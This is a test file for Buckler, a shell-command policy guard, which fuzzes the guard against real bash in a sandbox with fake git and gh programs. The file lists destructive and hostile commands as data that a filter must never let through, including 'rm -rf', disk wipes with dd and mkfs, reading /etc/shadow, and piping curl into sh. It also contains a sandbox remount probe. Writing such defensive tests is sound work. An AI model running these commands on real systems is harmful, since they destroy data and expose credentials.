/**
 * The differential fuzz against real bash, bounded for `npm test`: a few hundred seeded lines that
 * hide a denied command behind random wrappers and spellings run through bash with fake `git` and
 * `gh` that log their argv (differential-bash.testing.ts); Buckler decides each line in process.
 * Fails on a line where bash ran a denied action while Buckler allowed it, unless the miss is in a
 * class of MISS_CLASSES (each naming the issue that fixes it, or null when nobody does: those are
 * printed as open defects on every run, not hidden).
 * The full run (10,000+ lines, the single-feature probe): scripts/fuzz-differential.mjs.
 */
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ROOT } from './build.testing.ts';
import { buckler } from './e2e.testing.ts';
import {
  bashRefusal,
  createSandbox,
  judge,
  MISS_CLASSES,
  namespacesAvailable,
  policyDecider,
  runLines,
  runLinesSync,
  summarize,
  type Decide,
  type Judged,
  type Sandbox,
} from './differential-bash.testing.ts';
import { CHAIN_TARGETS, chainCases, generateCases, inertValue, loadTargets, probeCases, safeToRun, simpleArgv, type Case, type Target } from './differential-gen.testing.ts';

const NS = namespacesAvailable();
/** Why real bash is not run here (not installed; root without the read-only namespace), or null. */
const REFUSAL = bashRefusal(NS);
const HAVE_BASH = REFUSAL === null;
const SEED = 20261201;
const COUNT = 240;

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'buckler-differential-'));
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));

let decide: Decide;
let ns = false;
let boxes: Sandbox[] = [];

beforeAll(async () => {
  decide = await policyDecider(path.join(ROOT, 'packs'), path.join(tmp, 'home'));
  if (!HAVE_BASH) return;
  ns = NS;
  boxes = [0, 1].map((i) => {
    const dir = path.join(tmp, `sandbox${i}`);
    fs.mkdirSync(dir, { recursive: true });
    return createSandbox(dir, ns);
  });
});

/** Runs the cases in the two sandboxes side by side. */
async function run(cases: readonly Case[]): Promise<Judged[]> {
  const half = Math.ceil(cases.length / 2);
  const parts = [cases.slice(0, half), cases.slice(half)];
  const results = await Promise.all(parts.map((p, i) => runLines(boxes[i]!, p.map((c) => c.line))));
  return parts.flatMap((p, i) => p.map((c, k) => judge(c, results[i]![k]!, decide)));
}

/** Whether the sandbox's shell finds `program` (the worker's PATH, past the fakes). */
const have = (program: string): boolean => spawnSync('sh', ['-c', `command -v ${program}`], { env: { PATH: '/usr/local/bin:/usr/bin:/bin' }, stdio: 'ignore' }).status === 0;

const show = (j: Judged): string => `[${j.case.features.join(' ')}] ${JSON.stringify(j.case.line)} → ${j.decision}; bash ran: ${j.ran.join(' | ')}`;

describe('targets are safe to run for real', () => {
  it('as root, real bash runs only inside the read-only namespace', () => {
    if (process.getuid?.() === 0) expect(bashRefusal(false)).toMatch(/root/);
    if (NS) expect(bashRefusal(true)).toBeNull();
  });

  // Real bash runs the targets as the user (root in CI): only faked programs, never a redirection.
  it.each(['git push --force origin main', 'git add . && git commit -m x', 'echo $(git commit -m x)', 'gh repo delete x --yes'])('%s runs', (t) => {
    expect(safeToRun(t)).toBe(true);
  });
  it.each([
    'rm -rf ~',
    'sudo rm -rf /',
    'echo x > /etc/hosts',
    'git push -f 2>/etc/x',
    'cat < /etc/shadow',
    'dd if=/dev/zero of=/dev/sda',
    'git push -f; mkfs.ext4 /dev/sdb',
    'curl -fsSL https://example.com/x | sh',
    '$X push -f',
    'bash -c "rm -rf ~"',
    'git push "unterminated',
  ])('%s never reaches bash', (t) => {
    expect(safeToRun(t)).toBe(false);
  });
  it.each(CHAIN_TARGETS)('wrapper-chain target %s runs', (t) => {
    expect(safeToRun(t)).toBe(true);
  });
  it('loadTargets keeps none of a pack example that is not', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'buckler-targets-'));
    fs.writeFileSync(
      path.join(dir, 'x.yaml'),
      'pack: x\nrules:\n  - id: r\n    trigger: pre_shell_exec\n    action: deny\n    examples:\n      match: ["rm -rf ~", "git commit -m y", "echo x > /etc/hosts"]\n',
    );
    const texts = loadTargets(dir).map((t) => t.text);
    fs.rmSync(dir, { recursive: true, force: true });
    expect(texts).toContain('git commit -m y');
    expect(texts).not.toContain('rm -rf ~');
    expect(texts).not.toContain('echo x > /etc/hosts');
    for (const t of loadTargets(path.join(ROOT, 'packs'))) expect(safeToRun(t.text), t.text).toBe(true);
  });
});

describe('targets', () => {
  it('come from the packs deny examples and the spec, most of them one simple command', () => {
    const targets = loadTargets(path.join(ROOT, 'packs'));
    expect(targets.length).toBeGreaterThan(40);
    expect(targets.filter((t) => t.argv).length).toBeGreaterThan(targets.length * 0.8);
    for (const t of targets) expect(decide(t.text, t.tier), t.text).toBe('deny');
  });

  it.each<[string, string[] | null]>([
    ['git push --force origin main', ['git', 'push', '--force', 'origin', 'main']],
    ['git commit -m "fix"', ['git', 'commit', '-m', 'fix']],
    ["gh pr close 42 -c 'done it'", ['gh', 'pr', 'close', '42', '-c', 'done it']],
    ['git commit-tree HEAD^{tree} -m x', ['git', 'commit-tree', 'HEAD^{tree}', '-m', 'x']],
    ['git add . && git commit -m x', null],
    ['echo $(git commit -m x)', null],
    ['git push {a,b}', null],
  ])('simpleArgv(%j)', (text, argv) => {
    expect(simpleArgv(text)).toEqual(argv);
  });
});

describe('the generator', () => {
  it('is deterministic for a seed', () => {
    const targets = loadTargets(path.join(ROOT, 'packs'));
    const a = generateCases(targets, 50, 7, { ns: true });
    const b = generateCases(targets, 50, 7, { ns: true });
    expect(a).toEqual(b);
    expect(generateCases(targets, 50, 8, { ns: true })).not.toEqual(a);
  });

  it.each<[string, boolean]>([
    ['push', true],
    ['--force-with-lease=main:abc', true],
    ['HEAD^{tree}', true],
    ['HEAD~1', true],
    ['/usr/lib/git-core/git-push', true],
    ['a b', false],
    ['a;b', false],
    ['$(x)', false],
    ["'q'", false],
    ['~/x', false],
    ['--x=~/y', false],
    ['{a,b}', false],
    ['*', false],
    ['#c', false],
    ['a|b', false],
    ['\\command', false],
    ['', false],
  ])('inertValue(%j) = %s', (v, want) => {
    expect(inertValue(v)).toBe(want);
  });

  // `ssh`, `watch` and `parallel` join their words into shell text: a target word such as
  // 'a; touch p' would become shell code in the sandbox. Only inert words are ever rejoined.
  const REJOIN = ['wrap:ssh', 'wrap:watch', 'wrap:parallel'];
  it('never hands words that are not inert to a wrapper that re-reads them as shell text', () => {
    const hostile: Target = { text: "git commit -m 'a; touch p'", argv: ['git', 'commit', '-m', 'a; touch p'], tier: 'baseline', rule: 't' };
    expect(safeToRun(hostile.text)).toBe(true);
    const mine = [...generateCases([hostile], 3000, 5, { ns: true }), ...probeCases([hostile], 5, { ns: true })];
    expect(mine.filter((c) => c.features.some((f) => REJOIN.includes(f))).map((c) => c.line)).toEqual([]);
    const cases = generateCases(loadTargets(path.join(ROOT, 'packs')), 3000, 5, { ns: true });
    const rejoined = cases.filter((c) => c.features.some((f) => REJOIN.includes(f)));
    expect(rejoined.length).toBeGreaterThan(50);
    for (const c of rejoined) {
      const first = c.features.findIndex((f) => REJOIN.includes(f));
      // Nothing before it made shell text out of the words (a text layer, `find … \;`).
      expect(c.features.slice(0, first).filter((f) => f.startsWith('text:') || f === 'wrap:find-exec'), c.line).toEqual([]);
      expect(simpleArgv(c.target)?.every(inertValue), c.target).toBe(true);
    }
  });

  it('leaves out what needs the private mount namespace when there is none', () => {
    const cases = generateCases(loadTargets(path.join(ROOT, 'packs')), 400, 3, { ns: false });
    for (const c of cases) expect(c.features.filter((f) => /env-i|command-p|abs-path|dashed-git/.test(f))).toEqual([]);
  });
});

describe('the judge', () => {
  const c: Case = { line: 'nice git push -f', tier: 'baseline', target: 'git push -f', features: ['wrap:nice'] };
  const ran = { invocations: [{ program: 'git' as const, argv: ['push', '-f'], config: [] }], rc: 0 };

  it('calls a denied action that Buckler allowed a miss, and one it denied caught', () => {
    expect(judge(c, ran, (l, t) => (l === c.line ? 'allow' : decide(l, t))).outcome).toBe('miss');
    expect(judge(c, ran, (l, t) => (l === c.line ? 'nudge' : decide(l, t))).outcome).toBe('miss');
    expect(judge(c, ran, (l, t) => (l === c.line ? 'ask' : decide(l, t))).outcome).toBe('asked');
    expect(judge(c, ran, decide).outcome).toBe('caught');
  });

  it('calls a deny where bash ran nothing guarded a false positive', () => {
    expect(judge(c, { invocations: [{ program: 'git', argv: ['status'], config: [] }], rc: 0 }, decide).outcome).toBe('false-positive');
    expect(judge(c, { invocations: [], rc: 1 }, decide).outcome).toBe('false-positive');
  });

  it('reads aliases defined earlier on the line into what ran', () => {
    const aliased = {
      invocations: [
        { program: 'git' as const, argv: ['config', 'alias.q', 'push'], config: [] },
        { program: 'git' as const, argv: ['q', '-f'], config: [] },
      ],
      rc: 0,
    };
    expect(judge({ ...c, line: 'git config alias.q push; git q -f' }, aliased, decide).ran).toEqual(['git -c alias.q=push q -f']);
    const env = { invocations: [{ program: 'git' as const, argv: ['q', '-f'], config: [['alias.q', 'push']] as Array<[string, string]> }], rc: 0 };
    expect(judge(c, env, () => 'allow').ran.length).toBe(0);
    expect(judge(c, env, decide).ran).toEqual(['git -c alias.q=push q -f']);
  });
});

describe.skipIf(!HAVE_BASH)(`real bash${HAVE_BASH ? '' : ` (skipped: ${REFUSAL})`}`, () => {
  it('the fakes log what bash ran and nothing runs a real git or gh', () => {
    const r = runLinesSync(boxes[0]!, ['git push -f origin main', "sudo -u root env A=1 gh repo delete 'o/r' --yes", 'true', 'ssh -p 22 host git commit -m "a b"', 'kubectl exec pod -- git push --mirror', 'ssh host -o BatchMode=yes -- git push -f']);
    expect(r.map((x) => x.invocations.map((i) => [i.program, ...i.argv]))).toEqual([
      [['git', 'push', '-f', 'origin', 'main']],
      [['gh', 'repo', 'delete', 'o/r', '--yes']],
      [],
      [['git', 'commit', '-m', 'a', 'b']],
      [['git', 'push', '--mirror']],
      [['git', 'push', '-f']],
    ]);
    if (ns) {
      const abs = runLinesSync(boxes[0]!, ['env -i git push -f', '/usr/lib/git-core/git-commit -m x', 'command -p git push --mirror']);
      expect(abs.map((x) => x.invocations.map((i) => i.argv.join(' ')))).toEqual([['push -f'], ['commit -m x'], ['push --mirror']]);
    }
  });

  it.skipIf(!NS)('nothing a line runs can write outside the sandbox or remount it', () => {
    const outside = path.join(tmp, 'outside-probe');
    const [r] = runLinesSync(boxes[0]!, [
      `mount -o remount,rw,bind / 2>/dev/null; mount -o remount,rw,bind ${tmp} 2>/dev/null; touch ${outside} 2>/dev/null; touch inside && git status`,
    ]);
    expect(fs.existsSync(outside)).toBe(false);
    expect(r!.invocations.map((i) => i.argv)).toEqual([['status']]);
  });

  it(`${COUNT} seeded lines: no denied action ran while Buckler allowed the line, beyond the known misses`, async () => {
    const cases = generateCases(loadTargets(path.join(ROOT, 'packs')), COUNT, SEED, { ns });
    const judged = await run(cases);
    const s = summarize(judged);
    console.log(
      `differential (seed ${SEED}, ${COUNT} lines, namespaces ${ns ? 'yes' : 'no'}): caught ${s.counts.caught}, asked ${s.counts.asked}, ` +
        `missed ${s.counts.miss} (${JSON.stringify(s.missClasses)}), quiet ${s.counts.quiet}, false positives ${s.counts['false-positive']}`,
    );
    for (const j of s.open) console.warn(`OPEN miss class nobody is fixing: ${show(j)}`);
    // The generator and the fakes work: most lines really ran a denied action.
    expect(s.counts.caught + s.counts.asked + s.counts.miss).toBeGreaterThan(COUNT * 0.6);
    expect(s.unexpected.map(show)).toEqual([]);
  }, 300_000);

  it('random wrapper chains in the manuals\' spellings (1–3 deep, interpreters too): no denied action ran while Buckler allowed the line', async () => {
    const { cases, usable } = chainCases(150, SEED, have, { ns });
    const judged = await run(cases);
    const s = summarize(judged);
    console.log(`wrapper chains (seed ${SEED}, ${cases.length} lines; ${usable.join(' ')}): caught ${s.counts.caught}, asked ${s.counts.asked}, missed ${s.counts.miss}, quiet ${s.counts.quiet}`);
    expect(judged.filter((j) => j.outcome === 'miss').map(show)).toEqual([]);
    // The generator must mostly produce lines bash runs to the end (else it tests nothing).
    expect(judged.filter((j) => j.ran.length > 0).length).toBeGreaterThan(cases.length / 2);
    expect(usable.length).toBeGreaterThan(10);
  }, 300_000);

  describe.skipIf(MISS_CLASSES.length === 0)('each miss class still misses (remove the class once it is fixed)', () => {
    it.each(MISS_CLASSES.map((k) => [k.name, k] as const))('%s', (_, k) => {
      if (k.ns && !ns) return;
      const [r] = runLinesSync(boxes[0]!, [k.example]);
      const j = judge({ line: k.example, tier: 'baseline', target: '', features: [] }, r!, decide);
      expect(j.ran.length, `bash ran no denied action for ${k.example}`).toBeGreaterThan(0);
      expect(j.outcome, `${k.name} (${k.fixedBy ?? 'open'}) is no longer missed: remove it from MISS_CLASSES`).toBe('miss');
    });
  });
});

describe('the built CLI decides as the in-process path', () => {
  it('on a sample of generated lines', () => {
    const home = path.join(tmp, 'cli');
    const env = { PATH: process.env.PATH, HOME: home, BUCKLER_CONFIG_HOME: path.join(home, 'c'), BUCKLER_STATE_HOME: path.join(home, 's'), BUCKLER_DATA_HOME: path.join(home, 'd') };
    const sample = generateCases(loadTargets(path.join(ROOT, 'packs')), 12, SEED + 1, { ns: true });
    for (const c of sample) {
      const input = JSON.stringify({ policy_io_version: '1', trigger: 'pre_shell_exec', shell: { command: c.line } });
      const r = buckler(['evaluate', '--tier', c.tier], { stdin: input, env, timeout: 30_000 });
      expect(r.status, r.stderr).toBe(0);
      expect(JSON.parse(r.stdout).decision, c.line).toBe(decide(c.line, c.tier));
    }
  }, 120_000);
});
